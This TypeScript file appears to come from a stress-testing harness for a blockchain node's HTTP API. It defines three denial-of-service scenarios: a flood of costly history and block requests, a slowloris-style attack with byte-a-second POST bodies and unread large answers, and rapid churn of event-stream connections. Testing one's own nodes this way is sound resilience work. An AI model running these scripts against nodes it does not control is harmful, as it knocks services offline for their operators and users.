import type { Attack } from "../attack.ts";
import { hold } from "../lib/hold.ts";
import { get, HttpClient, hostAndPort, openSocket } from "../lib/http.ts";
import { addressOf, richAccounts } from "../measure/accounts.ts";

const readers = 20;

/** Requests pages of history for which the node must read the bodies of 100 blocks. */
export const httpHistory: Attack = {
  name: "http-history",
  by: "stranger",
  does: `${readers} clients, from four addresses, ask one node for pages of 100 entries of an account's history, and for whole blocks, as fast as it answers, at most 100/s in all`,
  async run(site) {
    const [place] = site.places;
    const clients = site.job.addresses.map((address) => new HttpClient(address, readers));
    const history = `/v1/accounts/${addressOf(richAccounts.first)}/transactions?limit=100`;
    await Promise.all(
      Array.from({ length: readers }, async (_, reader) => {
        const client = clients[reader % clients.length]!;
        let height = 1 + reader;
        await site.repeat(100 / readers, async () => {
          const path = reader % 4 === 3 ? `/v1/blocks/${height}` : `${history}&before=${height}-0`;
          height = 1 + ((height + readers) % 60);
          const status = await client.send(place!, path, undefined, site.signal);
          site.count(`answered ${status}`);
        });
      }),
    );
    for (const client of clients) client.close();
  },
};

const held = { idle: 200, slow: 100, unread: 100 };
const streamsPerSecond = 50;

/** Holds idle connections. */
export const httpSlow: Attack = {
  name: "http-slow",
  by: "stranger",
  does: `from four addresses at one node: ${held.idle} idle connections, ${held.slow} bodies of a byte a second, ${held.unread} large answers that nobody reads; each comes again when it was cut`,
  async run(site) {
    const place = site.places[0]!;
    await Promise.all([
      hold(site, place, held.idle, () => ""),
      hold(
        site,
        place,
        held.slow,
        (host) =>
          `POST /v1/transactions HTTP/1.1\r\nhost: ${host}\r\ncontent-type: application/json\r\ncontent-length: 100000\r\n\r\n[`,
        " ",
      ),
      hold(site, place, held.unread, (host) => get("/v1/blocks?limit=100", host).repeat(20), undefined, true),
    ]);
  },
};

export const eventStreams: Attack = {
  name: "event-streams",
  by: "stranger",
  does: `${streamsPerSecond} event streams/s opened at one node from four addresses, and closed 0.2 s later; 40 are kept and never read`,
  async run(site) {
    const place = site.places[0]!;
    const { host, port } = hostAndPort(place);
    const open = (slot: number) => openSocket(host, port, site.address(slot), site.signal);
    const kept = hold(site, place, 40, (name) => get("/v1/events", name), undefined, true);
    let slot = 0;
    await site.repeat(streamsPerSecond, async () => {
      const socket = await open(slot++).catch(() => undefined);
      socket?.write(get("/v1/events", `${host}:${port}`));
      site.count("streams");
      setTimeout(() => socket?.destroy(), 200);
    });
    await kept;
  },
};
